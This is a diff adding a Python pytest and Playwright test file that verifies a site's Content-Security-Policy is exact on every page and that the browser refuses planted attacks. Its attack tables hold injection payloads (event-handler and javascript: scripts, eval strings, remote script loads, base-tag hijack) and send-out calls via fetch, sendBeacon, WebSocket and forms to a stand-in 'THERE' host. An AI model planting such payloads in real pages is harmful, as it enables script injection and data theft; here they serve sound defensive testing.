@@ -1,0 +1,296 @@
+"""The Content-Security-Policy of every page: whole and exact in each file, and kept by the browser under attack."""
+
+import importlib
+import re
+from contextlib import suppress
+from http import HTTPStatus
+
+import pytest
+from playwright.sync_api import Error
+
+from docs._build.serve import SiteHandler, serving
+from tests.browser import SITE, Visit, until
+
+policy = importlib.import_module("policy")
+
+FILES = sorted(path.relative_to(SITE).as_posix() for path in SITE.rglob("*.html")) or ["index.html"]
+
+
+# A page as it is written
+
+
+def page(*scripts, head="", body=""):
+    inside = "".join(f"<script>{each}</script>" for each in scripts)
+    return f'<!doctype html><html><head>\n<meta charset="utf-8">{head}{inside}</head><body>{body}</body></html>\n'
+
+
+def test_a_page_is_only_added_to():
+    html = page("go( 'a' && \"b\" )", body="<P Class=x>1 &amp; 2 < 3<br/><svg viewBox='0 0 1 1'/>")
+    guarded = policy.guarded(html)
+    (tag,) = re.findall(r"<meta http-equiv[^>]*>", guarded)
+    assert guarded.replace(tag, "") == html
+    assert guarded.index(tag) == html.index('<meta charset="utf-8">') + len('<meta charset="utf-8">')
+
+
+def test_only_what_runs_has_a_digest_and_the_same_script_has_one():
+    data = '<script type="application/json">{"a": 1}</script><script src="a.js"></script>'
+    told = policy.guarded(page("go()", "come()", "go()", body=data))
+    assert told.count("'sha256-") == 2
+    assert "sha256" not in policy.guarded(page(body=data))
+
+
+def test_a_page_that_was_changed_is_guarded_again():
+    old, new = (policy.guarded(page(each)) for each in ("old()", "new()"))
+    assert policy.guarded(old) == old != new
+    assert policy.guarded(old.replace("old()", "new()")) == new
+
+
+@pytest.mark.parametrize(
+    ("html", "reason"),
+    [
+        (page(body='<button onclick="go()">'), '<button onclick="go()"> has a script in an attribute'),
+        (page(body='<svg><a ONLOAD="go()">'), "has a script in an attribute"),
+        (page(body='<a href=" java&#9;Script:go()">x</a>'), "has a script in a link"),
+        (page(body='<svg><a xlink:href="javascript:go()">'), "has a script in a link"),
+        (page(body='<form action="javascript:go()">'), "has a script in a link"),
+        (page("if (a <!--b) go()"), "holds '<!--'"),
+        (page("go('<script>')"), "holds '<script'"),
+        (page("a()\r\nb()"), "holds '\\r'"),
+        ('<head><link rel="icon" href="a.svg"><meta charset="utf-8"></head>', "the policy comes too late"),
+        ("<p>Only a part of a page</p>", "no <head>"),
+    ],
+)
+def test_a_page_that_its_policy_would_break_or_could_not_guard_is_not_built(html, reason):
+    with pytest.raises(policy.PolicyError, match=re.escape(reason)):
+        policy.guarded(html)
+
+
+def test_the_page_at_fault_is_named(tmp_path):
+    (tmp_path / "rules").mkdir()
+    (tmp_path / "rules" / "index.html").write_text(page(body='<p onclick="go()">'), encoding="utf-8")
+    with pytest.raises(policy.PolicyError, match=r"^rules/index\.html: <p onclick"):
+        policy.publish(tmp_path)
+
+
+# Every page as it was built
+
+READ = """async (names) => Promise.all(names.map(async (name) => {
+  const page = new DOMParser().parseFromString(await (await fetch(name)).text(), "text/html");
+  const all = [...page.querySelectorAll("*")];
+  const tags = all.filter((it) => /^content-security-policy/i.test(it.httpEquiv ?? ""));
+  const kinds = /^(|module|importmap|speculationrules|(text|application)\\/(x-)?(java|ecma)script)$/i;
+  const runs = (it) => !it.src && kinds.test(it.type);
+  const digests = await Promise.all([...page.scripts].filter(runs).map(async (it) => {
+    const bytes = await crypto.subtle.digest("SHA-256", new TextEncoder().encode(it.text));
+    return `'sha256-${btoa(String.fromCharCode(...new Uint8Array(bytes)))}'`;
+  }));
+  const odd = all.flatMap((it) => [...it.attributes].map(({ name, value }) => `${it.localName} ${name}=${value}`))
+    .filter((each) => /^\\S+ on|^[\\w-]+ (?!data-|aria-|content)[\\w:-]+=\\s*javascript:/i.test(each));
+  const before = all.slice(0, all.indexOf(tags[0])).map((it) => it.localName + (it.httpEquiv ? " http-equiv" : ""));
+  return { name, tags: tags.map((it) => it.content), digests: [...new Set(digests)], before, odd };
+}))"""
+"""What the browser finds in pages: their policies, what stands before them, and the digests of their scripts."""
+
+
+def faults_of_policies(tab, url, names):
+    """What is wrong with the policies of pages, as another reader of HTML and another digest find it."""
+    tab.goto(f"{url}about/license/index.html")
+    for it in tab.evaluate(READ, [url + name for name in names]):
+        name = it["name"].removeprefix(url)
+        if len(it["tags"]) != 1:
+            yield f"{name} has {len(it['tags'])} policies"
+            continue
+        found = dict(each.split(" ", 1) for each in it["tags"][0].split("; "))
+        wanted = dict(policy.LITE if name.startswith("lite/") else policy.OURS)
+        wanted["script-src"] = " ".join([wanted["script-src"], *it["digests"]])
+        yield from (f"{name}: {key} is {found.get(key)}" for key in found | wanted if found.get(key) != wanted.get(key))
+        yield from (f"{name}: {each} before the policy" for each in it["before"] if each not in policy.QUIET)
+        yield from (f"{name}: {each}" for each in it["odd"])
+
+
+@pytest.mark.browser
+def test_every_page_has_its_policy_before_all_else_with_the_digests_of_its_scripts_and_no_others(browser, site):
+    tab = browser.new_page()
+    found = list(faults_of_policies(tab, site, FILES))
+    tab.close()
+    assert found == [] and len(FILES) > 70
+
+
+def test_the_policy_of_our_pages_lets_no_script_in_by_a_word():
+    allowed = policy.OURS["script-src"].split()
+    assert allowed == ["'self'", "'wasm-unsafe-eval'"] and policy.OURS["default-src"] == "'self'"
+    assert not {"http:", "https:", "*", "blob:", "'unsafe-eval'"} & {
+        word for value in policy.OURS.values() for word in value.split()
+    }
+
+
+@pytest.mark.browser
+def test_enter_in_the_search_leads_to_what_was_found_though_no_form_may_be_sent(visit, site):
+    it = visit("rules/")
+    it.settle()
+    field = it.page.get_by_role("textbox", name="Search")
+    field.click()
+    it.page.keyboard.press("Enter")
+    assert it.page.url == f"{site}rules/"
+    it.page.keyboard.type("knock")
+    it.page.locator(".md-search-result__link").first.wait_for()
+    it.page.keyboard.press("Enter")
+    it.page.wait_for_url("**/reference/glossary/#knock")
+
+
+# What an attack comes to
+
+PLACE = "about/license/"
+SCRIPT = "window.hurt = 1"
+PLANTED = {
+    "a script": (f"<script>{SCRIPT}</script>", "script-src-elem"),
+    "a picture that fails": (f'<img src="data:," onerror="{SCRIPT}" alt="">', "script-src-attr"),
+    "a drawing that loads": (f'<svg onload="{SCRIPT}"></svg>', "script-src-attr"),
+    "a frame with a script": (f'<iframe srcdoc="<script>parent.{SCRIPT}</script>"></iframe>', "script-src-elem"),
+    "a frame of elsewhere": ('<iframe src="THERE/page"></iframe>', "frame-src"),
+    "a frame of ours": ('<iframe src="../"></iframe>', "frame-src"),
+    "a script of elsewhere": ('<script src="THERE/hurt.js"></script>', "script-src-elem"),
+    "a module of elsewhere": ('<script type="module" src="THERE/hurt.js"></script>', "script-src-elem"),
+    "a script in an address": (f'<script src="data:text/javascript,{SCRIPT}"></script>', "script-src-elem"),
+    "a module ahead": ('<link rel="modulepreload" href="THERE/hurt.js">', "script-src-elem"),
+    "a file ahead": ('<link rel="preload" as="image" href="THERE/a.svg">', "img-src"),
+    "a picture of elsewhere": ('<img src="THERE/a.svg" alt="">', "img-src"),
+    "a style of elsewhere": ('<link rel="stylesheet" href="THERE/a.css">', "style-src-elem"),
+    "a ground of elsewhere": ('<p style="background: url(THERE/a.svg)">x</p>', "img-src"),
+    "a font of elsewhere": (
+        "<style>@font-face { font-family: X; src: url(THERE/a.woff2) }</style><p style='font-family: X'>x</p>",
+        "font-src",
+    ),
+    "a film of elsewhere": ('<video src="THERE/a.mp4"></video>', "media-src"),
+    "an object": ('<object data="THERE/a.svg"></object>', "object-src"),
+    "an embedded object": ('<embed src="THERE/a.svg">', "object-src"),
+    "another base": ('<base href="THERE/"><img src="a.svg" alt="">', "base-uri"),
+}
+"""What somebody might plant in a page, and what of the policy refuses it."""
+SEND = "document.querySelector('.planted').requestSubmit()"
+DONE = {
+    "a form to elsewhere": (
+        '<form class="planted" action="THERE/"><input name="a" value="b"></form>',
+        SEND,
+        "form-action",
+    ),
+    "a form to us": ('<form class="planted" action="../"><input name="a" value="b"></form>', SEND, "form-action"),
+    "a link with a script": (
+        f'<a class="planted" href="javascript:void({SCRIPT})">x</a>',
+        "document.querySelector('.planted').click()",
+        "script-src-elem",
+    ),
+    "what a lab shows": (
+        "<p></p>",
+        f"document.querySelector('main').innerHTML = `<img src='data:,' onerror='{SCRIPT}'>`",
+        "script-src-attr",
+    ),
+    "fetch": ("", "fetch('THERE/a').catch(() => 0)", "connect-src"),
+    "a beacon": ("", "navigator.sendBeacon('THERE/a', 'b')", "connect-src"),
+    "a request of old": ("", "const it = new XMLHttpRequest(); it.open('GET', 'THERE/a'); it.send()", "connect-src"),
+    "a stream": ("", "new EventSource('THERE/a')", "connect-src"),
+    "a socket": ("", "try { new WebSocket('THERE/a'.replace('http', 'ws')) } catch {}", "connect-src"),
+    "text that is run": ("", f"eval('{SCRIPT}')", "script-src"),
+    "text as a function": ("", f"Function('{SCRIPT}')()", "script-src"),
+    "text after a time": ("", f"setTimeout('{SCRIPT}')", "script-src"),
+    "a module that is imported": ("", "import('THERE/hurt.js').catch(() => 0)", "script-src-elem"),
+    "a worker from text": (
+        "",
+        "new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))).onmessage = () => { window.hurt = 1 }",
+        "worker-src",
+    ),
+    "a worker that goes elsewhere": (
+        "",
+        "new Worker('data:text/javascript,' + encodeURIComponent(`fetch('THERE/a')`))",
+        "worker-src",
+    ),
+}
+"""The same with what sets it off."""
+ATTACKS = {name: (html, "", directive) for name, (html, directive) in PLANTED.items()} | DONE
+
+
+ASKED = []
+"""What was asked of another origin."""
+
+
+class Elsewhere(SiteHandler):
+    """Another origin: takes all that it is sent, and gives a script to anybody."""
+
+    def send_head(self):
+        ASKED.append(self.path)
+        kinds = {"js": "text/javascript", "svg": "image/svg+xml", "css": "text/css"}
+        kind = kinds.get(self.path.rpartition(".")[2], "text/html")
+        return self.answer(HTTPStatus.OK, {"Content-Type": kind, "Access-Control-Allow-Origin": "*"}, SCRIPT.encode())
+
+
+Elsewhere.do_POST = Elsewhere.do_GET
+
+
+class Planted(SiteHandler):
+    """The site, with an attack in one of its pages."""
+
+    page = ""
+
+    def send_head(self):
+        if self.path != f"/{PLACE}":
+            return super().send_head()
+        return self.answer(HTTPStatus.OK, {"Content-Type": "text/html; charset=utf-8"}, Planted.page.encode())
+
+
+@pytest.fixture(scope="module")
+def tab(browser, tmp_path_factory):
+    """One tab for all attacks, the address of the attacked site, and another origin."""
+    with serving(SITE, by=Planted) as here, serving(tmp_path_factory.mktemp("there"), by=Elsewhere) as there:
+        it = Visit(browser)
+        yield it, here, there.removesuffix("/")
+        it.faults.clear()
+        it.close()
+
+
+@pytest.fixture
+def attacked(tab):
+    """Opens a page of ours in which an attack was planted."""
+    it, here, there = tab
+
+    def opens(name, change=str):
+        html, act, _ = ATTACKS[name]
+        built = change((SITE / PLACE / "index.html").read_text(encoding="utf-8"))
+        Planted.page = built.replace("</main>", f"{html.replace('THERE', there)}</main>", 1)
+        it.page.goto("about:blank")
+        it.faults.clear()
+        ASKED.clear()
+        it.page.goto(here + PLACE)
+        it.page.evaluate(f"void setTimeout(() => {{ {act.replace('THERE', there)} }})")
+        return it
+
+    return opens
+
+
+HARM = "Boolean(window.hurt) || document.querySelectorAll('base').length && document.baseURI !== location.href"
+
+
+def harm(it):
+    """Whether an attack came through: a script ran, somebody else was asked, or the page went elsewhere."""
+    return ASKED or not it.page.url.endswith(f"/{PLACE}") or it.page.evaluate(HARM)
+
+
+@pytest.mark.browser
+@pytest.mark.parametrize("name", ATTACKS)
+def test_the_browser_refuses_an_attack(name, attacked):
+    it, told = attacked(name), f"policy: {ATTACKS[name][2]} refuses"
+    until(lambda: [fault for fault in it.faults if told in fault], lambda: str(it.faults), it.page)
+    assert not harm(it)
+
+
+@pytest.mark.slow
+@pytest.mark.browser
+@pytest.mark.parametrize("name", ATTACKS)
+def test_without_its_policy_a_page_would_not_withstand(name, attacked):
+    """So the attacks are real ones."""
+    it = attacked(name, lambda html: re.sub(r"<meta http-equiv[^>]*>", "", html))
+
+    def done():
+        with suppress(Error):  # a page that goes elsewhere answers nothing meanwhile
+            return harm(it) or len(it.page.frames) > 1
+
+    until(done, lambda: f"no harm: {it.faults}", it.page)
